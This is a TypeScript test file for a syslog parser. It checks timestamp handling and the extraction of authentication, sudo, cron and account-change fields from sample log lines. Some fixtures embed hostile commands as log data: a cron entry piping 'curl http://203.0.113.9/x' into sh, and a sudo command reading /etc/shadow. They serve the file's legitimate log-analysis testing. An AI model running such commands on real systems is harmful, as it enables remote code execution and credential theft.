import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { syslog } from '../../../../parsers/formats/syslog/index.js';
import { onlyEvent } from '../../../support/parsed.js';
import { recordInput } from '../../../support/record-input.js';

const parse = (line: string) => syslog.parse(recordInput(line, { framing: { kind: 'lines' } }));
const event = (line: string) => onlyEvent(parse(line));

test('RFC 3164: no year, no zone, a one-digit day', () => {
  const read = event('<86>Jan  2 03:04:05 node-1 sshd[99]: Accepted publickey for eve from 203.0.113.9 port 5022 ssh2');
  expect(read.time).toMatchObject({ text: 'Jan  2 03:04:05', zone: 'unknown', resolution: 's', kind: 'happened' });
  expect(read.message).toBe('sshd[99]: Accepted publickey for eve from 203.0.113.9 port 5022 ssh2');
  expect(read.fields).toEqual({
    'exhibit.layer': 'host',
    'exhibit.lane': 'node/node-1',
    'exhibit.outcome': 'allowed',
    'exhibit.severity': 2,
    'event.action': 'ssh_login',
    'event.category': 'authentication',
    'event.kind': 'event',
    'event.outcome': 'success',
    'event.provider': 'sshd',
    'event.reason': 'publickey',
    'event.severity': 'informational',
    'event.original': 'Accepted publickey for eve from 203.0.113.9 port 5022 ssh2',
    'host.name': 'node-1',
    'process.name': 'sshd',
    'process.pid': 99,
    'log.syslog.priority': 86,
    'log.syslog.facility.code': 10,
    'log.syslog.facility.name': 'authpriv',
    'log.syslog.severity.code': 6,
    'log.syslog.severity.name': 'informational',
    'log.syslog.appname': 'sshd',
    'user.name': 'eve',
    'source.ip': '203.0.113.9',
    'source.port': 5022,
  });
});

describe('headers', () => {
  test.each([
    [
      'RFC 5424',
      '<165>1 2003-10-11T22:14:15.003Z mymachine.example.com evntslog - ID47 [a@1 b="c\\"d"] hello',
      'record',
    ],
    ['counted octets', '55 <165>1 2003-10-11T22:14:15.003Z mymachine.example.com evntslog - ID47 - hello', 'record'],
    ['ISO with priority', '<165>2003-10-11T22:14:15.003Z mymachine.example.com evntslog: hello', 'record'],
    ['ISO in a file', '2003-10-11T22:14:15.003+00:00 mymachine.example.com evntslog: hello', 'record'],
    ['RFC 3164 with a year', '<165>Oct 11 2003 22:14:15.003 mymachine.example.com evntslog: hello', 'unknown'],
  ])('%s', (_, line, zone) => {
    expect(event(line)).toMatchObject({
      time: { instant: 1065910455003000000n, zone },
      fields: { 'host.name': 'mymachine.example.com', 'log.syslog.appname': 'evntslog', 'event.original': 'hello' },
    });
  });

  test('29 February has a place though the year is open', () => {
    expect(event('Feb 29 01:15:43 node-1 a: b').time).toMatchObject({ zone: 'unknown', text: 'Feb 29 01:15:43' });
  });

  test('no host is made of a program or of dashes', () => {
    expect(event('Nov 18 08:30:20 kernel: [997.390602] sda2').fields).not.toHaveProperty(['host.name']);
    expect(event('Mar 11 09:39:39: --- last message repeated 5 times ---').fields).toMatchObject({
      'event.action': 'message repeated',
      'exhibit.count': 5,
    });
    expect(event('Mar 11 09:39:39: --- last message repeated 5 times ---').fields).not.toHaveProperty(['host.name']);
  });
});

describe('messages', () => {
  const said = (program: string, body: string) => event(`Jan 22 07:52:33 node-1 ${program}[7]: ${body}`).fields;

  test.each([
    [
      'sshd',
      'Failed password for invalid user oracle from 203.0.113.9 port 5 ssh2',
      { 'user.name': 'oracle', 'exhibit.outcome': 'denied', 'event.outcome': 'failure' },
    ],
    [
      'sshd',
      'message repeated 2 times: [ Failed password for root from 203.0.113.9 port 5 ssh2]',
      { 'user.name': 'root', 'exhibit.count': 2, 'event.action': 'ssh_login' },
    ],
    [
      'sudo',
      '   eve : TTY=pts/0 ; PWD=/home/eve ; USER=root ; COMMAND=/bin/cat /etc/shadow',
      {
        'user.name': 'eve',
        'user.effective.name': 'root',
        'process.command_line': '/bin/cat /etc/shadow',
        'process.working_directory': '/home/eve',
      },
    ],
    [
      'sudo',
      'eve : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh',
      { 'exhibit.outcome': 'denied', 'event.reason': '3 incorrect password attempts' },
    ],
    [
      'CRON',
      '(root) CMD (curl http://203.0.113.9/x | sh)',
      { 'user.name': 'root', 'process.command_line': 'curl http://203.0.113.9/x | sh' },
    ],
    [
      'su',
      'pam_unix(su:session): session opened for user root(uid=0) by eve(uid=1000)',
      { 'event.action': 'session_opened', 'user.name': 'eve', 'user.target.name': 'root' },
    ],
    [
      'useradd',
      'new user: name=mallory, UID=1337, GID=1337, home=/home/mallory',
      { 'event.action': 'user_added', 'user.target.name': 'mallory', 'user.target.id': '1337' },
    ],
    [
      'kubelet',
      'I1122 SyncLoop pod="shop/web-0" podUID=11111111-2222-3333-4444-555555555555 containerName="web"',
      {
        'orchestrator.namespace': 'shop',
        'orchestrator.resource.name': 'web-0',
        'container.name': 'web',
        'exhibit.lane': 'k8s/-/shop/web-0',
        'host.name': 'node-1',
      },
    ],
    [
      'dockerd',
      `level=info msg="ignoring event" container=${'c'.repeat(64)}`,
      { 'container.id': 'c'.repeat(64), 'exhibit.lane': 'container/cccccccccccc' },
    ],
  ])('%s: %s', (program, body, fields) => {
    expect(said(program, body)).toMatchObject(fields);
  });

  test('who writes a header into a message makes no second event', () => {
    const parsed = parse('<15>2021-03-06T04:07:33Z host app: a<14>2021-03-06T04:07:34Z host app: b');
    expect(parsed).toMatchObject({ events: [{}], problems: [{ code: 'run-together' }] });
  });
});

test('the rest of a message over several lines is kept, undated', () => {
  expect(event('\tmany syslog parsers.')).toMatchObject({ time: null, message: 'many syslog parsers.' });
});

test.each(['Dec 18 17:54:32 ', '<13>1 2003-10-11T22:14:15Z - - - - -', '  '])(
  'a line that says nothing has a sentence: %j',
  (line) => {
    expect(event(line).message).not.toBe('');
  },
);

test('any line is answered', () => {
  fc.assert(
    fc.property(fc.string(), (rest) => {
      expect(onlyEvent(parse(`Jan 22 07:52:33 node-1 sshd[1]: ${rest}`)).time).not.toBeNull();
      expect(parse(rest).kind).toBe('events');
      parse(`<13>1 2003-10-11T22:14:15Z - - - - [${rest}] x`);
    }),
  );
});

test.each([
  [
    'sshd[3]: error: maximum authentication attempts exceeded for root from 203.0.113.5 port 55 ssh2',
    { 'event.action': 'ssh_login', 'exhibit.outcome': 'denied', 'user.name': 'root', 'source.port': 55 },
  ],
  [
    'sshd[3]: Failed none for invalid user  from 203.0.113.5 port 9 ssh2',
    { 'event.action': 'ssh_login', 'exhibit.outcome': 'denied', 'source.ip': '203.0.113.5' },
  ],
  [
    'sshd[3]: User eve from 203.0.113.5 not allowed because not listed in AllowUsers',
    { 'exhibit.outcome': 'denied', 'event.reason': 'not listed in AllowUsers', 'user.name': 'eve' },
  ],
  [
    'su[3]: (to root) eve on pts/1',
    { 'event.action': 'su', 'exhibit.outcome': 'allowed', 'user.name': 'eve', 'user.target.name': 'root' },
  ],
  ['su[3]: FAILED SU (to root) eve on pts/1', { 'event.action': 'su', 'exhibit.outcome': 'denied' }],
  ['systemd-logind[5]: New session 12 of user eve.', { 'event.action': 'session_opened', 'user.name': 'eve' }],
  [
    'crontab[9]: (eve) REPLACE (root)',
    { 'event.action': 'crontab replace', 'user.name': 'eve', 'user.target.name': 'root' },
  ],
  [
    'useradd[4]: new user: name=eve, UID=1003, GID=1003',
    { 'event.action': 'user_added', 'user.target.name': 'eve', 'user.target.id': '1003' },
  ],
  ['groupadd[4]: new group: name=eve, GID=1003', { 'group.name': 'eve', 'group.id': '1003' }],
  ["usermod[4]: add 'eve' to group 'docker'", { 'user.target.name': 'eve', 'group.name': 'docker' }],
])('%s', (said, fields) => {
  const read = event(`Mar  3 10:00:04 web1 ${said}`).fields;
  expect(read).toMatchObject(fields);
  if (said.startsWith('useradd')) expect(read).not.toHaveProperty('user.id');
});
